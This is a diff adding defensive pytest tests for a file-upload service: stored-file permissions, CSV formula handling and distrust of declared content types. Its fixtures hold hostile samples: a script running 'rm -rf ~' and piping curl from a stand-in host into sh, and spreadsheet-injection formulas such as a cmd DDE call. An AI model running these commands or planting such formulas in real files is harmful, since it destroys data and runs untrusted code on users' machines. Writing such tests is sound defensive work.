@@ -11,7 +11,7 @@ import pytest
 
 from tests.conftest import validate
 from tests.hostile import corpus
-from tests.hostile.checks import assert_refused, assert_safe_download, assert_stored
+from tests.hostile.checks import assert_refused, assert_safe_download, assert_stored, stored_files
 
 PROGRAMS = {"pe": corpus.PE, "elf": corpus.ELF, "macho-64": corpus.MACHO_64, "macho-32": corpus.MACHO_32,
             "macho-universal": corpus.MACHO_FAT}
@@ -136,3 +136,42 @@ def test_java_past_the_head_of_a_large_docx_is_not_seen(validator):
     assert "META-INF/MANIFEST.MF" in {name for _, name in entry_names(data)}
     assert "META-INF/MANIFEST.MF" not in {name for _, name in entry_names(data[:64 * 1024])}
     assert validate(validator.channel, "large.docx", data).accepted
+
+
+def test_a_stored_file_is_never_executable_nor_readable_by_others(client, app):
+    """A script without a shebang is just text to libmagic, so it is accepted as .txt: on disk
+    it has a random name, no execute bit and no permission for other users, and nothing in the
+    service runs, includes or interprets stored files."""
+    import os
+    import stat
+
+    script = b"rm -rf ~\ncurl http://example.invalid/x | sh\n"
+    rec = assert_stored(client, app, "install.txt", script, "text/plain")
+    [path] = [p for p in stored_files(app) if p.endswith(rec["filename"])]
+    mode = stat.S_IMODE(os.stat(path).st_mode)
+    assert mode & 0o111 == 0 and mode & 0o007 == 0, oct(mode)
+
+
+def test_spreadsheet_formulas_in_a_csv_are_stored_as_sent(client, app):
+    """CSV injection is a risk for whoever opens the file in a spreadsheet, not for this
+    service: it never rewrites content (see SECURITY.md). The bytes come back unchanged and are
+    served as text, so the browser shows them; it is the spreadsheet that must not run them."""
+    data = (b"name,total,note\n=HYPERLINK(\"http://example.invalid\",\"click\"),1,a\n"
+            b"=cmd|' /C calc'!A0,2,b\n+SUM(1+1),3,c\n@SUM(1),4,d\n")
+    rec = assert_stored(client, app, "report.csv", data, "text/plain")
+    assert_safe_download(client, rec, data)
+
+
+@pytest.mark.parametrize("declared", [b"text/html", b"image/svg+xml", b"application/x-msdownload", b"image/png"])
+def test_the_declared_content_type_is_never_believed(client, app, declared):
+    """The part's Content-Type is the client's word: what is recorded and served is libmagic's."""
+    from tests.hostile.checks import BOUNDARY, multipart
+
+    data = b"plain words and nothing else\n"
+    response = client.post("/upload", data=multipart(b'filename="words.txt"', data, content_type=declared),
+                           content_type=f"multipart/form-data; boundary={BOUNDARY}")
+    assert response.status_code == 201, response.get_json()
+    rec = response.get_json()
+    assert rec["type"] == "text/plain"
+    served = assert_safe_download(client, rec, data)
+    assert served.headers["Content-Type"] == "text/plain; charset=utf-8"
